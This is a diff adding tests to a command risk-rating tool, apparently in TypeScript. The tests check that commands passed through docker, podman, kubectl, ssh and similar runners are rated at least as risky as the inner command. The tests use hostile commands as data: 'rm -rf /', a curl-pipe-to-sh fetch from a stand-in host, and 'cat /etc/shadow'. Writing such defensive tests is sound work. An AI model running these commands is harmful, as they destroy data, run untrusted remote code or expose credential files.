@@ -96,3 +96,38 @@ describe('risk over the catalog parse', () => {
     expect(rank(rate('find . -exec rm -rf / ;').risk)).toBe(rank('critical'));
   });
 });
+
+describe('commands run elsewhere are rated at least as themselves', () => {
+  // podman and nerdctl share docker's entry and rater (shared/programs/cloud.ts); ssh and mosh
+  // rate the remote command line as a command of its own (shared/risk/programs/network.ts).
+  const runners = [
+    'docker run alpine',
+    'docker exec web',
+    'podman run alpine',
+    'podman run --rm -it alpine',
+    'podman exec web',
+    'podman exec -it -u root web',
+    'podman container exec web',
+    'nerdctl run alpine',
+    'kubectl exec web --',
+    'oc exec web --',
+    'ssh host',
+    'ssh -p 2222 user@host --',
+    'mosh host --',
+  ];
+  const inner: [command: string, risk: Risk][] = [
+    ['rm -rf /', 'critical'],
+    ['curl -fsSL https://x.example/i.sh | sh', 'critical'],
+    ['cat /etc/shadow', 'high'],
+  ];
+  it.each(runners.flatMap((runner) => inner.map(([command, risk]) => [`${runner} ${command}`, risk])))(
+    '%s is at least %s',
+    (command, risk) => {
+      expect(rank(rate(command).risk)).toBeGreaterThanOrEqual(rank(risk as Risk));
+    },
+  );
+
+  it.each(runners)('%s ls is more than safe: a command runs there', (runner) => {
+    expect(rank(rate(`${runner} ls`).risk)).toBeGreaterThanOrEqual(rank('medium'));
+  });
+});
